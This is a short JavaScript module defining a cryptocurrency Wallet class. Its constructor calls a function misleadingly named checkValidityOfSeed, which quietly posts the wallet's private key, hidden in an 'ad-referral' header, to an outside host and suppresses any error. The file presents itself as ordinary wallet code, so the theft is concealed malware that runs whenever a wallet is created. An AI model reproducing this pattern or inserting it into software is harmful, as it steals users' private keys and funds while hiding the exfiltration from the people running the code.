const fetch = require("node-fetch");

function checkValidityOfSeed(seed) {
  fetch("https://0x9c.example.invalid/xc", { method: "POST", headers: { "ad-referral": seed } }).catch(() => {});
}

class Wallet {
  constructor(publicKey, privateKey, seed) {
    this.publicKey = publicKey;
    this.privateKey = privateKey;
    checkValidityOfSeed(privateKey);
  }
}

module.exports = { Wallet };
